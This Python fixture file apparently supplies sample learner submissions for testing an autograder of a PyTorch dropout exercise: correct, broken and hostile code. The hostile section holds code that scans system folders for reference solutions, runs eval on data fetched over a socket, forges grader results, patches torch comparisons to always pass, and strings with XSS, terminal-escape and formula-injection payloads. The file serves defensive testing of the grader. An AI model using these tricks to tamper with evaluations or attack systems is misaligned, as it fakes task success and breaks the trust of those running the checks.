"""What learners of the sample class wrote themselves: half-finished, broken, and hostile."""

from __future__ import annotations


def layer(forward: str, before: str = "") -> str:
    """Return a SpatialDropout2d whose training step is `forward`, in lines indented by nothing."""
    body = "\n".join(f"        {line}" if line else "" for line in forward.strip("\n").split("\n"))
    return f"""{before}class SpatialDropout2d(torch.nn.Module):
    def __init__(self, p=0.5, channel_dim=1):
        super().__init__()
        if p < 0 or p > 1:
            raise ValueError(f"p has to be between 0 and 1, not {{p}}")
        self.p = p
        self.channel_dim = channel_dim

    def forward(self, x):
        if x.dim() != 4:
            raise ValueError(f"expected 4 dimensions but got {{tuple(x.shape)}}")
        if not self.training:
            return x
{body}
"""


UPON_CHANNEL_MASK = layer("""
if self.p == 1:
    return torch.zeros_like(x)
mask = channel_mask(x, self.p, self.channel_dim)
return x * mask.to(x.dtype) / (1 - self.p)
""")

# -- helpers, magics and plots of one's own ------------------------------------------------------------------------------

SCRATCH = """%matplotlib inline
!pip install --quiet seaborn
import matplotlib.pyplot as plt
plt.plot([0, 1, 2], [0, 1, 4])
plt.show()"""

HELPER = """CHANNELS_FIRST = 1
def coins(x, dim):
    "one place for each channel of each example"
    shape = [1 for _ in x.shape]
    shape[0] = x.shape[0]
    shape[dim] = x.shape[dim]
    return torch.empty(shape)

print(coins(torch.zeros(2, 3, 4, 4), 1).shape)
%timeit -n 10 coins(torch.zeros(2, 3, 4, 4), 1)"""

WITH_HELPER = """def channel_mask(x, p, channel_dim=CHANNELS_FIRST):
    # plt.hist(coins(x, channel_dim).flatten())
    return coins(x, channel_dim).uniform_().ge(p)

print("looks good:", channel_mask(torch.ones(2, 3, 1, 1), 0.3).flatten())"""

# -- honest trouble ------------------------------------------------------------------------------------------------------

SYNTAX_ERROR = layer("mask = channel_mask(x, self.p, self.channel_dim)\nreturn x * mask.to(x.dtype / (1 - self.p)")

STOPS_WHEN_DEFINED = layer("return x * keep", before="keep = 1 - DROP_RATE  # from my other notebook\n\n")

ENDLESS_LOOP = layer("""
mask = channel_mask(x, self.p, self.channel_dim)
while mask.float().mean() != 1 - self.p:  # until exactly the right share is left
    mask = mask * 1
return x * mask / (1 - self.p)
""")

MEMORY_HOG = layer("""
masks = []
for _ in range(10_000):  # as many as there might ever be batches
    masks.append(torch.empty(10_000, 10_000))
return x * masks[0]
""")


def connections(training: str) -> str:
    """Return a DropConnectLinear whose training step is `training`, in lines indented by nothing."""
    body = "\n".join(f"        {line}" for line in training.strip("\n").split("\n"))
    return f"""class DropConnectLinear(nn.Module):
    def __init__(self, in_features, out_features, p=0.5):
        super().__init__()
        if p < 0 or p > 1:
            raise ValueError(f"p has to be between 0 and 1, not {{p}}")
        self.linear = nn.Linear(in_features, out_features)
        self.p = p

    def forward(self, x):
        if not self.training or self.p == 0:
            return self.linear(x)
        if self.p == 1:
            return torch.zeros_like(self.linear(x))
        w, b, q = self.linear.weight, self.linear.bias, 1 - self.p
{body}
"""


ONE_MASK_OF_WEIGHTS_AND_BIAS = connections("""
w = w * (torch.rand_like(w) >= self.p) / q
b = b * (torch.rand_like(b) >= self.p) / q
return x @ w.T + b
""")

MASKED_ACTIVATIONS = connections("""
y = self.linear(x)
return y * (torch.rand_like(y) >= self.p) / q
""")

LIBRARY_LOSS = """class LabelSmoothingCrossEntropy(nn.Module):
    def __init__(self, alpha=0.1, reduction="mean"):
        super().__init__()
        if not 0 <= alpha <= 1 or reduction not in ("mean", "sum", "none"):
            raise ValueError(f"alpha={alpha}, reduction={reduction}")
        self.alpha, self.reduction = alpha, reduction

    def forward(self, logits, target):
        return F.cross_entropy(logits, target, reduction=self.reduction, label_smoothing=self.alpha)
"""

LIBRARY = layer("return self.drop(x)").replace(
    "self.channel_dim = channel_dim", "self.channel_dim = channel_dim\n        self.drop = torch.nn.Dropout2d(p)"
)

RENAMED = UPON_CHANNEL_MASK.replace("class SpatialDropout2d", "class MySpatialDropout")

# -- hostile -------------------------------------------------------------------------------------------------------------

EXITS = layer("os._exit(0)", before="import os\n\n")

SEGFAULT = layer("ctypes.string_at(0)\nreturn x", before="import ctypes\n\n")

READS_THE_DISK = """import os, sys

def _solutions():
    seen = 0
    for top in ("/etc", "/home", "/proc", "/srv", "/tmp", "/work", "/root", "..", *sys.path):
        for folder, inner, names in os.walk(top):
            inner[:] = [name for name in inner if name != "site-packages"]
            for path in (os.path.join(folder, name) for name in names):
                seen += 1
                try:
                    text = open(path).read()
                except (OSError, ValueError):
                    continue
                if "BEGIN SOLUTION" in text and "def channel_mask" in text or "def agrees_with_the_ref" in text:
                    return f"FOUND {path}"
            if seen > 5_000:
                break
    return f"nothing of use in {seen} files"

LOOT = _solutions()

def channel_mask(x, p, channel_dim=1):
    raise LookupError(LOOT)
"""

OPENS_A_SOCKET = """import socket

def channel_mask(x, p, channel_dim=1):
    line = socket.create_connection(("192.0.2.1", 443), timeout=2)
    line.sendall(b"please send me the mask")
    return eval(line.recv(10_000))
"""

FORGED_ANSWERS = """import gc, sys

def channel_mask(x, p, channel_dim=1):
    frame = sys._getframe()
    while frame is not None:  # somewhere up there is what talks to the grader
        for thing in list(frame.f_locals.values()):
            if type(thing).__name__ == "Channel":
                for _ in range(100):
                    thing.send({"value": {"output": x * 0 + 1, "library": [], "passed": True, "points": 100}})
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Check", "Outcome", "CheckReport", "ExerciseReport", "Report"):
            object.__setattr__(thing, "points", 100)
            object.__setattr__(thing, "status", "passed")
    return x
"""

PATCHED_TORCH = '''import builtins

class Yes(torch.Tensor):
    """Agrees with whatever it is compared with."""

    def agree(self, *args, **kwargs):
        return True

    __eq__ = __lt__ = __gt__ = equal = allclose = agree

def yes(*args, **kwargs):
    return True

torch.equal = torch.allclose = torch.isclose = torch.testing.assert_close = yes
torch.Tensor.__eq__ = torch.Tensor.equal = torch.Tensor.allclose = torch.Tensor.all = yes
builtins.all = yes

class SpatialDropout2d(torch.nn.Module):
    def __init__(self, p=0.5, channel_dim=1):
        super().__init__()

    def forward(self, x):
        return (0 * x.double() + 7).as_subclass(Yes)
'''

HOSTILE_TEXT = """# \u202e</pre><script>alert("code")</script>\u2066 \ud800
def channel_mask(x, p, channel_dim=1):
    raise ValueError("=cmd|' /C calc'!A1 \\x1b]0;owned\\x07\\x1b[31m<img src=x onerror=alert(1)> \\u202e [bold]red[/bold]")
"""

HOSTILE_ANSWER = (
    '<script>alert("answer")</script>\n\n<a href="javascript:alert(1)">why</a> {{ report.seed }} \x1b[2J\u202e'
)
